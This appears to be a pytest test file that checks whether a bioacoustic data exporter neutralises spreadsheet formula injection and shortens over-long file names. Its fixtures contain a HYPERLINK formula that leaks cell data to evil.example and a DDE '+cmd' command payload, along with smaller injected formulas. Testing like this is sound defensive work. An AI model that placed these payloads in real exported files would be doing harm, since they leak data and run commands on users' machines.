"""Exports neutralise spreadsheet formulas (OWASP CSV injection) in every text cell, leave numbers
as numbers, and fit names too long for the file system with a stable hash suffix."""

from __future__ import annotations

import csv
from datetime import datetime, timezone
from pathlib import Path

import pytest

from flows.outputs.exports import MAX_NAME_BYTES, export, fitted_name
from flows.outputs.exports.raven import read_selection_table
from tests.support.seed_catalog import ROBIN, Call, Seed

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LONG_NAME = "x" * 251 + ".WAV"  # 255 characters: the longest name a file system takes


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    root = tmp_path_factory.mktemp("results")
    seed = Seed(root)
    seed.deployment(LEAK, site_id="+cmd|' /C calc'!A0", timezone="UTC", latitude=-33.5,
                    longitude=-70.25, recorder="@SUM(1+1)")
    hostile = Call("-2+3", "\tEvil Bird", 0.9)
    seed.recording(LEAK, datetime(2024, 5, 14, 21, 0, tzinfo=timezone.utc), 2,
                   calls={0: [hostile], 1: [ROBIN]}, key=f"dep/{LONG_NAME}")
    seed.recording(LEAK, datetime(2024, 5, 15, 21, 0, tzinfo=timezone.utc), 1,
                   calls={0: [Call("Erithacus rubecula", "\rRobin", 0.8)]}, key="dep/short.WAV")
    return root


def runnable(cell: str) -> bool:
    """A cell a spreadsheet would read as a formula: it begins with a trigger and is not a plain
    number (a negative longitude is a number, which nothing runs)."""
    if not cell.startswith(TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def csv_cells(path: Path, delimiter: str = ",") -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


def test_the_flat_csv_has_no_cell_a_spreadsheet_would_run(root, tmp_path):
    export("csv", str(root), tmp_path)
    header, *rows = csv_cells(tmp_path / "detections.csv")
    assert len(rows) == 3
    for row in rows:
        assert not [c for c in row if runnable(c)], row
    by = [dict(zip(header, r)) for r in rows]
    assert {r["deployment_id"] for r in by} == {"'" + LEAK}
    assert {r["site_id"] for r in by} == {"'+cmd|' /C calc'!A0"}
    assert "'-2+3" in {r["Scientific name"] for r in by}
    assert "'\tEvil Bird" in {r["Common name"] for r in by}
    # Numbers are not text: the negative coordinates stay numbers a spreadsheet reads as such.
    assert {(r["lat"], r["lon"]) for r in by} == {("-33.5", "-70.25")}


def test_raven_and_audacity_tables_neutralise_labels_and_fit_long_names(root, tmp_path):
    summary = export("raven", str(root), tmp_path / "raven")
    assert len(summary["files"]) == 2
    for name in summary["files"]:
        path = Path(name)
        assert len(path.name.encode()) <= MAX_NAME_BYTES
        for row in csv_cells(path, "\t")[1:]:
            assert not [c for c in row if runnable(c)], row
    long = [Path(f) for f in summary["files"] if Path(f).name.startswith("xxx")]
    assert len(long) == 1
    # Stable: the same recording gives the same shortened name, ending in a hash of the full one.
    assert long[0].name == fitted_name("x" * 251, ".Table.1.selections.txt")
    again = export("raven", str(root), tmp_path / "again")
    assert sorted(Path(f).name for f in again["files"]) == sorted(Path(f).name for f in summary["files"])
    # Read back, the neutralised labels are the labels (the import side of a review round trip),
    # but for a tab or carriage return, which cannot live inside a cell of a tab-separated table.
    labels = {s.common_name for f in summary["files"] for s in read_selection_table(Path(f))}
    assert labels == {" Evil Bird", "European Robin", " Robin"}
    scientific = {s.scientific_name for f in summary["files"] for s in read_selection_table(Path(f))}
    assert "-2+3" in scientific

    export("audacity", str(root), tmp_path / "aud")
    files = sorted((tmp_path / "aud").rglob("*.labels.txt"))
    assert len(files) == 2 and all(len(p.name.encode()) <= MAX_NAME_BYTES for p in files)
    for path in files:
        for line in path.read_text(encoding="utf-8").splitlines():
            start, end, label = line.split("\t")
            assert not runnable(label), line


def test_camtrap_dp_and_occupancy_tables_neutralise_text_cells(root, tmp_path):
    export("camtrap-dp", str(root), tmp_path / "dp")
    for table in ("deployments", "media", "observations"):
        header, *rows = csv_cells(tmp_path / "dp" / f"{table}.csv")
        assert rows
        for row in rows:
            assert not [c for c in row if runnable(c)], (table, row)
    deployments = [dict(zip(*[csv_cells(tmp_path / "dp" / "deployments.csv")[0], r]))
                   for r in csv_cells(tmp_path / "dp" / "deployments.csv")[1:]]
    assert [(d["deploymentID"], d["cameraModel"], d["latitude"]) for d in deployments] == [
        ("'" + LEAK, "'@SUM(1+1)", "-33.5")]

    export("occupancy", str(root), tmp_path / "occ")
    for path in sorted((tmp_path / "occ").glob("*.csv")):
        for row in csv_cells(path):
            assert not [c for c in row if runnable(c)], (path.name, row)
    species = [r[0] for r in csv_cells(tmp_path / "occ" / "histories.csv")[1:]]
    assert "'-2+3" in species


def test_fitted_names_are_stable_distinct_and_short_enough():
    a, b = "a" * 300 + "1", "a" * 300 + "2"
    assert fitted_name(a, ".csv") == fitted_name(a, ".csv")
    assert fitted_name(a, ".csv") != fitted_name(b, ".csv")
    assert all(len(fitted_name(n, ".csv").encode()) == MAX_NAME_BYTES for n in (a, b))
    assert fitted_name("short", ".csv") == "short.csv"
    # Multi-byte names are cut on a character boundary.
    wide = fitted_name("é" * 200, ".txt")
    assert len(wide.encode()) <= MAX_NAME_BYTES and wide.endswith(".txt")


def test_raven_and_audacity_group_and_order_recordings_the_same_way(tmp_path):
    """One grouping for the per-recording formats: the same files, in the same order, each
    listing its detections by offset, channel and rank, whatever order the rows came in."""
    from flows.outputs.exports.flat import write_audacity
    from flows.outputs.exports.raven import read_selection_table, write_raven

    def row(key, offset, channel, rank, label):
        return {"object_key": key, "offset_s": offset, "end_offset_s": offset + 3.0,
                "channel": channel, "rank": rank, "label": label, "scientific_name": None,
                "score": 0.9, "sample_rate_hz": 48000, "uri": f"/field/{key}"}

    rows = [row("b/2.WAV", 6.0, 0, 1, "late"), row("a/1.WAV", 3.0, 1, 1, "second channel"),
            row("a/1.WAV", 3.0, 0, 2, "second rank"), row("a/1.WAV", 3.0, 0, 1, "first"),
            row("a/1.WAV", 0.0, 0, 1, "earliest")]
    raven = write_raven(list(rows), tmp_path / "raven")
    audacity = write_audacity(list(reversed(rows)), tmp_path / "audacity")
    assert [p.relative_to(tmp_path / "raven").parts[0] for p in raven] == ["a", "b"]
    assert [p.relative_to(tmp_path / "audacity").parts[0] for p in audacity] == ["a", "b"]
    expected = ["earliest", "first", "second rank", "second channel"]
    assert [s.common_name for s in read_selection_table(raven[0])] == expected
    labels = [line.split("\t")[2].rsplit(" ", 1)[0]
              for line in audacity[0].read_text(encoding="utf-8").splitlines()]
    assert labels == expected
